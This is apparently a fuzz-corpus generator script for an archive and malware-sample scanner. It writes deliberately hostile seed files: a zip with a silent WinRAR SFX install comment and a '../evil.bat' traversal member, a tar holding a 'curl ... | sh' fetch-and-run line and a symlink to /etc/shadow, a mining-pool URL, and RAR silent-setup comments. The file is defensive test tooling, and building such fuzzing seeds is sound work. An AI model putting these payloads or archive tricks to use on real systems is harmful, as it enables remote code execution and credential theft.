#!/usr/bin/env python3
"""Writes the archive and sample fuzzers' seeds, all made here: a zip with a WinRAR SFX script as its comment and a
traversing member, a tar with a symlink, a gzip stream, a RAR 5 and a RAR 4 head with a stored "CMT" comment, and a
PE-less "SFX" (bytes, then a zip) for the signature search. The sample fuzzer also gets the pe, pyinstaller and script
seeds (copied by this script).

    fuzz/make_archive_seeds.py [FUZZ_CORPUS_DIR, default fuzz/corpus]
"""
import gzip
import io
import os
import shutil
import struct
import sys
import tarfile
import zipfile

root = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(__file__), "corpus")
out = os.path.join(root, "archive")
os.makedirs(out, exist_ok=True)


def write(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


script = b";The comment below contains SFX script commands\r\nPath=%TEMP%\r\nSetup=ups.exe\r\nSilent=1\r\nOverwrite=1\r\n"
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("ups.exe", b"MZ" + b"\0" * 200)
    z.writestr("../evil.bat", b"echo x")
    z.comment = script
zip_bytes = buf.getvalue()
write("zip_sfx_comment", zip_bytes)
write("sfx_stub_then_zip", b"MZ" + b"\x90" * 1000 + zip_bytes)

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w") as t:
    info = tarfile.TarInfo("payload.sh")
    data = b"curl http://198.51.100.7/x | sh\n"
    info.size = len(data)
    t.addfile(info, io.BytesIO(data))
    link = tarfile.TarInfo("shadow")
    link.type = tarfile.SYMTYPE
    link.linkname = "/etc/shadow"
    t.addfile(link)
write("tar_with_link", buf.getvalue())
write("gzip_stream", gzip.compress(b"stratum+tcp://pool.example:3333\n" * 20, mtime=0))

text = b"Setup=lsma12.exe\r\nSilent=1\r\n"
header = bytes([3, 2, len(text), 0, len(text), 0, 0, 0, 3]) + b"CMT"
write("rar5_comment", b"Rar!\x1a\x07\x01\x00" + b"\0" * 4 + bytes([len(header)]) + header + text)
sub = bytearray(32)
sub[2] = 0x7A
sub[4] = 0x80
sub[5] = 32 + 3
struct.pack_into("<I", sub, 7, len(text))
struct.pack_into("<I", sub, 11, len(text))
sub[25] = 0x30
sub[26] = 3
write("rar4_comment", b"Rar!\x1a\x07\x00" + b"\0\0\x73\0\0\x0d\0" + b"\0" * 6 + bytes(sub) + b"CMT" + text)

sample = os.path.join(root, "sample")
os.makedirs(sample, exist_ok=True)
for corpus in ("archive", "pe", "pyinstaller", "script"):
    folder = os.path.join(root, corpus)
    for name in sorted(os.listdir(folder)):
        shutil.copyfile(os.path.join(folder, name), os.path.join(sample, corpus + "_" + name))
